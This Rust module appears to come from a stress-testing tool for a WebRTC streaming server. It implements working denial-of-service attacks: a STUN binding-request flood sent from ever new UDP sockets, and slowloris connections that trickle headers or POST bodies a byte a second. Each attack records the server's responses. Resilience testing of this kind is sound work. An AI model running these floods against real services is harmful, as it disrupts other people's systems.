//! The attacks below HTTP: STUN checks from ever new UDP sockets, and
//! slowloris TCP connections.

use std::collections::VecDeque;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::MissedTickBehavior;

use super::http::{client, new_viewer_session};
use super::*;

pub(super) async fn stun(t: &Target, src: IpAddr, tally: &Tally) -> anyhow::Result<()> {
    let http = client(src)?;
    let per_tick = STUN_PER_SEC / 100;
    // Ports are the kernel's choice: it hands out one again once its
    // socket is closed, so the distinct ones are counted.
    let mut ports_seen = vec![false; 65536];
    let mut distinct = 0u64;
    loop {
        let Some((session, client_ufrag)) = new_viewer_session(t, &http, tally).await? else {
            continue;
        };
        let (Some(ufrag), Some(pwd)) = (
            craft::sdp_attr(&session.answer, "ice-ufrag"),
            craft::sdp_attr(&session.answer, "ice-pwd"),
        ) else {
            tally.add("answer without ICE credentials", 1);
            tokio::time::sleep(Duration::from_secs(1)).await;
            continue;
        };
        let tie_breaker = rand::random::<u64>();
        let until = Instant::now() + SESSION_LIFE;
        let mut tick = tokio::time::interval(Duration::from_millis(10));
        tick.set_missed_tick_behavior(MissedTickBehavior::Skip);
        let mut open: VecDeque<(Instant, std::net::UdpSocket)> = VecDeque::new();
        let mut buf = [0u8; 1500];
        while Instant::now() < until {
            tick.tick().await;
            let (mut sent, mut failed, mut answered) = (0, 0, 0);
            for _ in 0..per_tick {
                let msg = craft::binding_request(ufrag, &client_ufrag, pwd, tie_breaker)?;
                let sock = match std::net::UdpSocket::bind((src, 0)) {
                    Ok(s) if s.set_nonblocking(true).is_ok() => s,
                    _ => {
                        failed += 1;
                        continue;
                    }
                };
                if let Ok(a) = sock.local_addr()
                    && !std::mem::replace(&mut ports_seen[usize::from(a.port())], true)
                {
                    distinct += 1;
                }
                match sock.send_to(&msg, t.rtc_addr) {
                    Ok(_) => sent += 1,
                    Err(_) => failed += 1,
                }
                open.push_back((Instant::now(), sock));
            }
            while open
                .front()
                .is_some_and(|(at, _)| at.elapsed() > STUN_LISTEN)
            {
                if let Some((_, sock)) = open.pop_front()
                    && sock.recv(&mut buf).is_ok()
                {
                    answered += 1;
                }
            }
            tally.add("STUN sent (each from a new socket)", sent);
            tally.peak("STUN distinct source ports", distinct);
            if failed > 0 {
                tally.add("STUN bind/send error", failed);
            }
            if answered > 0 {
                tally.add("STUN answered", answered);
            }
        }
    }
}

/// What a slowloris connection does.
#[derive(Clone, Copy)]
enum Slow {
    /// Sends its request's headers a byte a second, without end.
    Headers,
    /// Sends a POST's headers at once, then its body a byte a second.
    Body,
}

pub(super) async fn slowloris(t: &Target, src: IpAddr, tally: Arc<Tally>) -> anyhow::Result<()> {
    let mut conns = JoinSet::new();
    let kinds = std::iter::repeat_n(Slow::Headers, SLOW_HEADERS)
        .chain(std::iter::repeat_n(Slow::Body, SLOW_BODIES));
    for (i, kind) in kinds.enumerate() {
        conns.spawn(slow_connection(
            t.http_addr,
            src,
            kind,
            i,
            t.publish_token.clone(),
            tally.clone(),
        ));
        // Opened over a second or two, as a patient client would.
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    while conns.join_next().await.is_some() {}
    Ok(())
}

/// One slowloris connection, opened again each time the server ends it. A
/// body staller carries a publish credential: without one the server
/// refuses its POST before reading any body.
async fn slow_connection(
    to: SocketAddr,
    src: IpAddr,
    kind: Slow,
    i: usize,
    token: String,
    tally: Arc<Tally>,
) {
    let label = match kind {
        Slow::Headers => "headers",
        Slow::Body => "body",
    };
    loop {
        let stream = match tokio::net::TcpSocket::new_v4() {
            Ok(s) if s.bind(SocketAddr::new(src, 0)).is_ok() => s.connect(to).await,
            Ok(_) | Err(_) => Err(std::io::Error::other("bind")),
        };
        let Ok(stream) = stream else {
            tally.add(&format!("{label}: connect error"), 1);
            tokio::time::sleep(Duration::from_secs(1)).await;
            continue;
        };
        tally.add(&format!("{label}: connections"), 1);
        let opened = Instant::now();
        let (mut rd, mut wr) = stream.into_split();
        let mut pending: Vec<u8> = match kind {
            Slow::Headers => b"GET /api/streams HTTP/1.1\r\nHost: lumen\r\nX-Slow: ".to_vec(),
            Slow::Body => {
                let head = format!(
                    "POST /whip/slow-{i} HTTP/1.1\r\nHost: lumen\r\nAuthorization: Bearer {token}\r\n\
                     Content-Type: application/sdp\r\nContent-Length: 4096\r\n\r\n"
                );
                if wr.write_all(head.as_bytes()).await.is_err() {
                    tally.add("body: closed before the body", 1);
                    continue;
                }
                Vec::new()
            }
        };
        pending.reverse();
        let mut tick = tokio::time::interval(Duration::from_secs(1));
        let mut buf = [0u8; 1024];
        let outcome = loop {
            tokio::select! {
                _ = tick.tick() => {
                    let byte = pending.pop().unwrap_or(b'a');
                    if wr.write_all(&[byte]).await.is_err() {
                        break "closed by the server".to_owned();
                    }
                }
                r = rd.read(&mut buf) => match r {
                    Ok(0) | Err(_) => break "closed by the server".to_owned(),
                    Ok(n) => {
                        let head = String::from_utf8_lossy(&buf[..n]);
                        let status = head.split_whitespace().nth(1).unwrap_or("?").to_owned();
                        break format!("answered {status}");
                    }
                },
            }
        };
        let held = opened.elapsed().as_secs();
        tally.add(&format!("{label}: {outcome}"), 1);
        tally.peak(&format!("{label}: longest held, s"), held);
        tally.add(&format!("{label}: seconds held, total"), held);
    }
}
